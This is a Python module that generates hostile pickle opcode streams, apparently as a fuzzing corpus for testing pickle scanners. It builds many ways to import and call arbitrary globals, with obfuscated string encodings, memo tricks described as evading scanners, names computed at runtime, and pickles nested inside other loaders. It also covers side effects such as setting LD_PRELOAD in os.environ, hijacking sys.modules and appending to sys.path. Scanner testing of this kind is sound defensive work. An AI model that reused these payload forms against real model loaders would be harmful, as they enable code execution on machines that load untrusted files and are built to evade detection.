"""Opcode forms: how a pickle comes to fetch a name and to call it, and what else it may do with what it holds.

Each form returns opcodes that leave exactly one value on the stack, with a word for the record. Only
streams that a loader would obey are built: a form that fails before it has acted is not an attack.
"""

import struct

from attack_gadgets import Gadget, draw, invented, plain

HARMLESS = Gadget("collections", "OrderedDict", "listed as inert", "listed")
CALLERS = ("partial", "reduce", "starmap", "call", "apply")
STATES = (
    "collections.Counter",
    "argparse.Namespace",
    "fractions.Fraction",
    "pathlib.PurePosixPath",
    "pathlib.PosixPath",
)


def text(rng, value, kinds="abcdefg"):
    """Push a str in one of the spellings that CPython reads as one."""
    data = value.encode()
    kind = rng.choice(kinds)
    if not value.isascii() and kind in "cdef":
        kind = "b"
    if kind == "a" and len(data) < 256:
        return b"\x8c" + bytes((len(data),)) + data
    if kind == "c":
        return (
            b"U" + bytes((len(data),)) + data
            if len(data) < 256
            else b"T" + struct.pack("<i", len(data)) + data
        )
    if kind == "d":
        return b"T" + struct.pack("<i", len(data)) + data
    if kind == "e":
        return (
            b"S'"
            + b"".join(b"\\x%02x" % byte if rng.random() < 0.3 else bytes((byte,)) for byte in data)
            + b"'\n"
        )
    if kind == "f":
        return (
            b"V"
            + b"".join(b"\\u%04x" % byte if rng.random() < 0.3 else bytes((byte,)) for byte in data)
            + b"\n"
        )
    if kind == "g":
        return b"\x8d" + struct.pack("<Q", len(data)) + data
    return b"X" + struct.pack("<I", len(data)) + data


def word(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz_") for _ in range(rng.randint(1, 12)))


def value(rng, depth=0):
    """Push any inert value."""
    kind = rng.randrange(9 if depth < 2 else 6)
    if kind == 0:
        return rng.choice((b"N", b"\x88", b"\x89", b"]", b"}", b")", b"I01\n", b"\x8f"))
    if kind == 1:
        return rng.choice(
            (
                b"K" + bytes((rng.randrange(256),)),
                b"J" + struct.pack("<i", rng.randrange(-9, 99999)),
                b"I%d\n" % rng.randrange(99),
                b"L7L\n",
                b"\x8a\x01\x05",
            )
        )
    if kind == 2:
        return rng.choice((b"G" + struct.pack(">d", rng.random()), b"F1.5\n"))
    if kind in (3, 4):
        return text(rng, word(rng))
    if kind == 5:
        return b"C" + bytes((3,)) + rng.randbytes(3)
    inner = [value(rng, depth + 1) for _ in range(rng.randint(1, 4))]
    if kind == 6:
        return b"](" + b"".join(inner) + b"e"
    if kind == 7:
        return b"}(" + b"".join(text(rng, word(rng)) + one for one in inner) + b"u"
    return b"(" + b"".join(inner) + b"t"


def memoized(rng, push):
    """Push a value, keep it in the memo, drop it, and take it from there."""
    index = rng.randrange(100, 250)
    put, get = rng.choice(
        (
            (b"q%c" % index, b"h%c" % index),
            (b"p%d\n" % index, b"g%d\n" % index),
            (b"r" + struct.pack("<I", index), b"j" + struct.pack("<I", index)),
        )
    )
    return (
        push + put + rng.choice((b"0", b"0" + value(rng) + b"0", b"")) + get
        if rng.random() < 0.8
        else push + put + b"2" + b"0"
    )


def fetch(rng, gadget):
    """Push the object that `gadget` names; returns opcodes and the form's name."""
    module, name = gadget.module, gadget.name
    form = (
        rng.choice(("GLOBAL", "STACK_GLOBAL", "odd strings", "memo strings", "GLOBAL memo", "computed"))
        if rng.random() < 0.85
        else "GLOBAL"
    )
    if form == "GLOBAL":
        return f"c{module}\n{name}\n".encode(), form
    if form == "STACK_GLOBAL":
        return text(rng, module, "ab") + text(rng, name, "ab") + b"\x93", form
    if form == "odd strings":
        return text(rng, module, "cdefg") + text(rng, name, "cdefg") + b"\x93", "STACK_GLOBAL odd strings"
    if form == "memo strings":
        # Both names wait in the memo, between other values; a reader that looks back a few opcodes misses them.
        store = text(rng, name) + b"q\xf0" + b"0" + value(rng) + b"0" + text(rng, module) + b"q\xf1" + b"0"
        return store + value(rng) + b"0" + b"h\xf1" + b"h\xf0" + b"\x93", "STACK_GLOBAL memo"
    if form == "GLOBAL memo":
        return memoized(rng, f"c{module}\n{name}\n".encode()), form
    return computed(rng, module, name)


def computed(rng, module, name):
    """Push a global whose name is the result of a call, or of nothing in the file at all."""
    cut = rng.randrange(len(name) + 1)
    joined = {
        "add": b"c_operator\nadd\n(" + text(rng, name[:cut]) + text(rng, name[cut:]) + b"tR",
        "join": b"cbuiltins\nstr.join\n("
        + text(rng, "", "ab")
        + b"]("
        + b"".join(text(rng, one) for one in name)
        + b"etR",
        "decode": b"c_codecs\ndecode\n("
        b"C" + bytes((len(name.encode()),)) + name.encode() + text(rng, "utf-8", "ab") + b"tR",
        "pid": b"P" + word(rng).encode() + b"\n",
        "binpid": text(rng, name) + b"Q",
        "str": b"cbuiltins\nstr\n" + text(rng, name) + b"\x85R",
    }
    how = rng.choice(sorted(joined))
    return b"\x80\x04" + text(rng, module) + joined[how] + b"\x93", f"computed by {how}"


def arguments(rng, gadget):
    """Push arguments for a call, after a MARK or on their own; callables get something to call."""
    if gadget.name.rpartition(".")[2] in CALLERS:
        return fetch(rng, plain(rng))[0] + text(rng, "true")
    if gadget.name.rpartition(".")[2] in ("getattr", "attrgetter", "methodcaller"):
        return fetch(rng, HARMLESS)[0] * (
            gadget.name[-6:] != "getter" and gadget.name != "methodcaller"
        ) + text(rng, "__globals__")
    return b"".join(value(rng) if rng.random() < 0.3 else text(rng, "true") for _ in range(rng.randrange(4)))


def call(rng, gadget):
    """Call the gadget in one of the ways a pickle has; returns opcodes and the form's name."""
    push, how = fetch(rng, gadget)
    args = arguments(rng, gadget)
    one = value(rng)
    forms = {
        "REDUCE": push + b"(" + args + b"tR",
        "REDUCE tuple": push + one + b"\x85R",
        "REDUCE pair": push + text(rng, "true") + one + b"\x86R",
        "OBJ": b"(" + push + args + b"o",
        "OBJ popped": b"N(" + push + args + b"o0",
        "REDUCE popped": b"N" + push + b"(" + args + b"tR0",
        "REDUCE in a mark": b"N(" + push + b"(" + args + b"tR1",
        "REDUCE memo": memoized(rng, push) + memoized(rng, b"(" + args + b"t") + b"R",
        "REDUCE dup": push + b"(" + args + b"tR" + b"20",
        "result called": push + b"(" + args + b"tR" + b"(" + text(rng, "x") + b"tR",
        "result built": push + b"(" + args + b"tR" + value(rng) + b"b",
        "result set": push + b"(" + args + b"tR" + text(rng, "k") + one + b"s",
        "partial": b"cfunctools\npartial\n(" + push + args + b"tR)R",
        "map": b"cbuiltins\nlist\n(cbuiltins\nmap\n(" + push + b"](" + text(rng, "true") + b"etRtR",
        "getattr": b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n("
        + text(rng, gadget.module)
        + b"tR"
        + text(rng, gadget.name)
        + b"tR("
        + args
        + b"tR",
        "class by _reconstructor": b"ccopyreg\n_reconstructor\n("
        + push
        + b"cbuiltins\nobject\nNtR}("
        + text(rng, "k")
        + one
        + b"ub",
        "OrderedDict of calls": b"ccollections\nOrderedDict\n(](]("
        + text(rng, "k")
        + push
        + b"("
        + args
        + b"tReetR",
        "defaultdict factory": b"ccollections\ndefaultdict\n" + push + b"\x85R",
    }
    if f"{gadget.module}{gadget.name}".isascii():
        forms["INST"] = b"(" + args + f"i{gadget.module}\n{gadget.name}\n".encode()
    if gadget.is_class:
        forms["NEWOBJ"] = push + b")\x81"
        forms["NEWOBJ BUILD"] = push + b")\x81}(" + text(rng, "k") + one + b"ub"
        forms["NEWOBJ_EX"] = push + b")}" + text(rng, "k") + one + b"s\x92"
        forms["NEWOBJ items"] = push + b")\x81(" + one + one + b"e"
        forms["__newobj__"] = b"ccopyreg\n__newobj__\n" + push + b"\x85R"
    form = rng.choice(sorted(forms))
    return forms[form], f"{how} {form}" if form not in ("INST", "getattr") else form


def reach(rng):
    """Act without calling the name: put items into it, set its state, or only import it."""
    one, state = (
        value(rng),
        text(rng, rng.choice(("__setstate__", "__class__", "__dict__", "__reduce__", "__del__", "_k"))),
    )
    listed = b"c" + rng.choice(STATES).replace(".", "\n").encode() + b"\n"
    bad = fetch(rng, plain(rng))[0]
    item = text(rng, rng.choice(("LD_PRELOAD", "PYTHONPATH", "PATH", "HTTPS_PROXY"))) + text(rng, "/tmp/x")
    forms = {
        "SETITEM environ": b"cos\nenviron\n" + item + b"s",
        "SETITEMS environ": b"cos\nenviron\n(" + item + b"u",
        "SETITEM modules": b"csys\nmodules\n" + text(rng, "torch") + bad + b"s",
        "APPEND path": b"csys\n" + rng.choice((b"path", b"meta_path", b"path_hooks", b"argv")) + b"\n" + text(rng, "/tmp/x") + b"a",
        "APPENDS path": b"csys\npath\n(" + text(rng, "/tmp/x") + b"e",
        "BUILD of a listed class": listed + b"N}" + state + bad + b"s\x86b",
        "class patched with a listed name": listed + b"N}" + text(rng, rng.choice(("__init__", "__eq__", "__hash__", "__repr__", "__getattr__"))) + b"cbuiltins\nset\ns\x86b",
        "BUILD __setstate__": b"cargparse\nNamespace\n)\x81}" + text(rng, "__setstate__") + bad + b"sb" + text(rng, "true") + b"b",
        "BUILD slots": b"cargparse\nNamespace\n)\x81N}" + text(rng, "__class__") + bad + b"s\x86b",
        "import only": b"c" + invented(rng).module.encode() + b"\nx\n",
        "import of a toy": b"c" + rng.choice((b"antigravity\nfly", b"this\ns", b"idlelib.idle\nidlelib", b"lib2to3.__main__\nsys", b"turtledemo.__main__\nrun")) + b"\n",
        "BUILD of a module": b"ctorch\nnn\nN}" + text(rng, "Linear") + bad + b"s\x86b",
        "key": b"}" + b"c" + invented(rng).module.encode() + b"\nKey\n)\x81" + one + b"s",
        "set member": b"\x8f(c" + invented(rng).module.encode() + b"\nKey\n)\x81\x90",
        "extension": rng.choice((b"\x82%c" % rng.randint(1, 255), b"\x83" + struct.pack("<H", rng.randint(256, 65535)), b"\x84" + struct.pack("<i", rng.randint(65536, 2**31 - 1)))) + rng.choice((b"", b"(" + text(rng, "true") + b"tR")),
        "persistent": rng.choice((b"P" + word(rng).encode() + b"\n", one + b"Q", b"(" + text(rng, "module") + text(rng, "os") + b"tQ")),
    }  # fmt: skip
    form = rng.choice(sorted(forms))
    return forms[form], form


def nested(rng):
    """Hand a pickle inside a pickle to a loader of pickles."""
    inner = b"\x80\x04" + call(rng, draw(rng))[0] + b"."
    loader = rng.choice(
        (
            "pickle\nloads",
            "_pickle\nloads",
            "dill\nloads",
            "cloudpickle\nloads",
            "torch.storage\n_load_from_bytes",
            "marshal\nloads",
            "pandas.io.pickle\nloads",
            "joblib.numpy_pickle\n_unpickle",
            "pickle\n_loads",
        )
    )
    if rng.random() < 0.5:
        held = b"B" + struct.pack("<I", len(inner)) + inner
    else:
        held = (
            b"c_codecs\nencode\n("
            + text(rng, inner.decode("latin-1"), "b")
            + text(rng, "latin1", "ab")
            + b"tR"
        )
    return b"c" + loader.encode() + b"\n" + held + b"\x85R", f"nested in {loader.split()[0]}"


def payload(rng):
    """Return (opcodes, form, gadget): one hostile value, however it comes about."""
    chance = rng.random()
    if chance < 0.72:
        gadget = draw(rng)
        opcodes, form = call(rng, gadget)
        return opcodes, form, gadget
    if chance < 0.9:
        opcodes, form = reach(rng)
    else:
        opcodes, form = nested(rng)
    return opcodes, form, Gadget("", "", "acts on what it fetches", form)
